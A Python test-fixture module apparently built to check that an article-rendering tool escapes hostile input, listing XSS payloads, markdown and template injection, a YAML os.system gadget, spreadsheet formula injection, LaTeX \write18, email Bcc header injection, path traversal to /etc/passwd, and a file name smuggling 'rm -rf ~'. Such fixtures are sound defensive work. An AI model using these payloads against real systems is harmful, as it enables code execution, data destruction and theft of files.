"""Hostile articles: what each says, where it says it, and what readers must see of it.

A script of theirs that runs calls `pwned()`; whatever they load stands at evil.example.
"""

from dataclasses import dataclass

TEXT = ("title", "sentence", "quote")  # where an attack stands unless its entry says otherwise
NAMES = ("outlet", "byline", "credit", "topic")


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """An article with one attack."""

    family: str
    text: str  # the attack
    places: tuple[str, ...] = TEXT  # the fields in which it stands
    shown: str | None = None  # what readers see of it; the attack itself where None
    format: str = "record"  # how it comes: record, txt, md, html or eml

    @property
    def literal(self) -> str:
        """What readers see, with white space folded as a browser does."""
        return " ".join((self.text if self.shown is None else self.shown).split())


def _of(family: str, *texts: str, places: tuple[str, ...] = TEXT) -> tuple[Hostile, ...]:
    return tuple(Hostile(family=family, text=text, places=places) for text in texts)


MARKUP = _of(
    "markup",
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()><animate onbegin=pwned() attributeName=x>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data='data:text/html,<script>pwned()</script>'></object>",
    "</title><script>pwned()</script>",
    "</textarea></noscript></style><img src=x onerror=pwned()>",
    "<style>body{display:none}@import 'https://evil.example/a.css'</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=q autofocus onfocus=pwned()></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<a href=javascript:pwned()>read on</a>",
    "<details open ontoggle=pwned()><summary>more</summary></details>",
    "<template><script>pwned()</script></template><plaintext>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<script>pwned()</script>]]> <?php echo 1 ?>",
    "<img src=x onerror=pwned() alt=",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#x3c;img src=x onerror=pwned()&#x3e; &amp;lt;b&amp;gt;",
    '" onmouseover="pwned()" x="',
    "' autofocus onfocus='pwned()",
    "</script><script>pwned()</script>",
    "<ScRiPt/x>pwned()</ScRiPt/x>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<img src=https://evil.example/pixel.png>",
    "<p id=said class=summary>ours</p></article></main>",
)
MARKDOWN = _of(
    "markdown",
    "[read on](javascript:pwned())",
    "![x](https://evil.example/pixel.png)",
    "[ours]: javascript:pwned() 'title'",
    "<javascript:pwned()> <https://evil.example/>",
    "[^1] [^1]: a forged note",
    "*[harbour]: a forged abbreviation",
    '!!! danger "a forged box"',
    '??? note "a folded box" open',
    "| a | b | --- | --- | c |",
    "{: onclick=pwned() .headline #said }",
    "# a heading {: #sources onclick=pwned() }",
    '<div markdown="1">**bold**</div>',
    '--8<-- "/etc/passwd"',
    "[TOC] [[toc]]",
    "***** _____ **bold** __bold__ *it* ~~gone~~ ^^up^^ ==mark==",
    "``` html <b>code</b> ``` `code` ~~~",
    ":smile: :material-skull: :octicons-alert-16:",
    '=== "A tab"',
    "{++added++}{--cut--}{>>remark<<}{==marked==}",
    "{{ config.site_url }} {{ 7*7 }}",
    "{% include '/etc/passwd' %}{% raw %}{# none #}",
    "++ctrl+alt+del++ @everyone #1 $x^2$ \\(y\\)",
    "\\*not emphasised\\* \\<b\\> \\",
    "klzzwxh:0000 wzxhzdk:0 amp;substitute:1",
)
LINES = _of(
    "lines",
    "---\ntitle: another title\n---\n\nwords",
    "a line\n\n# a heading\n\n    code\n\nmore",
    "a line\n=====\n\n!!! danger\n    a box",
    "cell\r\ncell\tcell\x0bcell\x0ccell",
    "a title\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - a forged reference",
    "a title\r\nBcc: all@evil.example\r\n\r\n<script>pwned()</script>",
    places=("title",),
)
TEMPLATES = _of(
    "yaml and data",
    "!!python/object/apply:os.system ['touch pwned']",
    "null",
    "no: &a [*a]",
    "12:30:45",
    "%TAG ! tag:evil.example,2000: | >-",
    "]]> --> */ ?> %>",
    '{"@type": "NewsArticle"} \\u003cscript\\u003e \\n',
    '=HYPERLINK("https://evil.example/";"read on")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)*cmd",
    "-2+3+cmd",
)
LABELS = _of(
    "labels and templates of ours",
    "%(num)s %s {0} %d </script><!--",
    "%(headline)s %(site)s %% %(nope)s $name ${name}",
    "<bdi>inside</bdi> <to>there</to> <strong>bold",
    '</bdi></to></story> msgid "" \\0 \\n',
)
REFERENCES = _of(
    "references and mail",
    '}}, note = {forged}} @misc{evil, title = {"x"',
    "\\input{/etc/passwd} $\\write18{touch pwned}$ % {",
    "=?utf-8?q?=0D=0ABcc:_all@evil.example?= =?utf-8?b?PHNjcmlwdD4=?=",
)
FORGED = _of(
    "forged",
    "Editor’s note We ask our readers to log in at evil.example",
    "Speaker not found 1 2 3 same text as 2, whole",
    "What happened Who said what Where accounts differ",
)
UNICODE = (
    *_of(
        "unicode",
        "раураl harbоur (Cyrillic letters)",
        "שלום עולם, נמל הים",
        "مرحبا بالعالم (RTL) 123",
        "Z" + "\u0351\u0324\u0353\u0347\u0363\u0315" * 40 + "algo",
        "\ue000\uf8ff private",
        "👩‍🚀 🏴‍☠️ می‌خواهم",
        "W" + "w" * 4999,
    ),
    Hostile(family="unicode", text="pay \u202egpj.exe\u202c now", shown="pay gpj.exe now"),
    Hostile(family="unicode", text="an \u2066isolate\u2069 \u2067of\u2069 words", shown="an isolate of words"),
    Hostile(family="unicode", text="zero\u200bwidth\u2060\ufeff\u00adwords", shown="zerowidthwords"),
    Hostile(family="unicode", text="half a \ud800 pair \udfff here", shown="half a \ufffd pair \ufffd here"),
    Hostile(family="unicode", text="lines\u2028and\u2029paragraphs\u0085end", shown="lines and paragraphs end"),
    Hostile(family="unicode", text="nul\x00 and \x1b[31m escape \x7f", shown="nul and [31m escape"),
)
TITLES = _of(
    "addresses",
    "index",
    "404",
    "assets",
    "search",
    "../../../etc/passwd",
    "..",
    "CON",
    "data/digest.json",
    "C:\\aux\\nul.html",
    "%2e%2e%2fetc%00",
    "🦊🦊🦊",
    "Harbour twins",
    "HARBOUR TWINS",
    "Caf\u00e9 opens",
    "Cafe\u0301 opens",
    "long " * 60,
    "~root/.ssh/?q=1#top",
    places=("title",),
)
FIELDS = (
    *_of(
        "names",
        "<script>pwned()</script> Gazette",
        '"><img src=x onerror=pwned()>',
        "{: onclick=pwned() } **Wire**",
        "../../index",
        "=1+1",
        "Times](javascript:pwned())",
        "The \u200fLedger]]>",
        "<bdi>%(num)s</to> Post",
        "Morning\r\nBcc: all@evil.example",
        places=NAMES,
    ),
    *_of(
        "speakers",
        "<b onclick=pwned()>Tan</b>",
        '"><script>pwned()</script>',
        "**Mira** [Tan](x)",
        "%(name)s <bdi>Tan\n</to>",
        places=("speaker",),
    ),
    *_of(
        "addresses of articles",
        "javascript:pwned()",
        "data:text/html,<script>pwned()</script>",
        'https://evil.example/"onmouseover="pwned()',
        "https://evil.example/'><script>pwned()</script>",
        "https://user:password@evil.example/",
        "//evil.example/a",
        "https://[evil.example/",
        "https://evil.example/)[x](javascript:pwned())",
        "\x01javascript:pwned()",
        places=("url",),
    ),
    *_of("dates", "0000-00-00", "2031-13-45", "=now()", "<b>2031-03-05</b>", "9" * 200, places=("published",)),
    *_of("languages", "../../en", 'en" onload="pwned()', "<script>", "x" * 300, places=("language",)),
)
FILES = (
    *(
        Hostile(family="files", text=text, format=kind)
        for kind in ("txt", "md", "html", "eml")
        for text in ("<img src=x onerror=pwned()>", "{: onclick=pwned() } # **x** `y`")
    ),
)
FILE_NAMES = (
    "<img src=x onerror=pwned()>.txt",
    '"onmouseover="pwned()".txt',
    "{{ 7*7 }} {% x %} `y` **z**.txt",
    "--8<-- [x](y) {: onclick=pwned() }.txt",
    "&lt;b&gt; ; rm -rf ~ $(touch pwned).txt",
    "index.html.txt",
    "\u202egpj.exe\u202c.txt",
)

# Each article has an attack in its words; that of a field beside them rides along with one of these.
_WORDS = (*MARKUP, *MARKDOWN, *LINES, *TEMPLATES, *LABELS, *REFERENCES, *FORGED, *UNICODE, *TITLES, *FILES)
ARTICLES = tuple((one, FIELDS[number]) if number < len(FIELDS) else (one,) for number, one in enumerate(_WORDS))
